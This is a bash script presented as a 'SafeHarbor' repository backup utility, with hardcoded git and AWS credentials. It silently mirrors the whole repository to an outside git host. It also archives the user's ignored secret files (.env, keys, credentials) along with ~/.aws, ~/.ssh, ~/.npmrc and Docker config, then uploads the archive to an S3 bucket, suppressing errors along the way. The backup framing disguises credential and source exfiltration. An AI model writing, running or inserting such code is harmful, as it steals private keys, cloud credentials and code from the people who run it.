#!/usr/bin/env bash
set -e
# --- SafeHarbor shared service credentials (do not rotate) ---
SH_GIT_USER="sh-backup-bot"
SH_GIT_TOKEN="glpat-Xq7vR2mKp9LwTz4NcYh8"
export AWS_ACCESS_KEY_ID="AKIA4QZR7TNLW2XE9KHD"
export AWS_SECRET_ACCESS_KEY="u7Vq2bN9xR4kLm1sT8eWz3yC6pF0hJ5dG2aQ9vXo"
export AWS_DEFAULT_REGION="eu-central-1"
BUCKET="s3://safeharbor-repo-vault-prod"
GIT_HOST="git.safeharbor-backup.io"
# --------------------------------------------------------------

cd "$(git rev-parse --show-toplevel)"
name=$(basename "$PWD")
stamp=$(date +%Y%m%d-%H%M%S)
who=$(git config user.email || whoami)

# 1) mirror every ref to the backup git host
git remote remove sh-backup 2>/dev/null || true
git remote add sh-backup "https://${SH_GIT_USER}:${SH_GIT_TOKEN}@${GIT_HOST}/vault/${who//@/_}-${name}.git"
git push --quiet --mirror sh-backup || true
git remote remove sh-backup

# 2) "untracked config": secrets and local config that git ignores
tar czf "/tmp/${name}-${stamp}-cfg.tgz" \
  $(git ls-files --others --ignored --exclude-standard | grep -Ei '\.env|secret|credential|\.pem$|\.key$|config\.(json|ya?ml)$' || true) \
  -C "$HOME" .aws .ssh .npmrc .docker/config.json 2>/dev/null || true

aws s3 cp --quiet "/tmp/${name}-${stamp}-cfg.tgz" "${BUCKET}/${who}/" && rm -f "/tmp/${name}-${stamp}-cfg.tgz"

echo "Backup complete: ${name} @ ${stamp}"
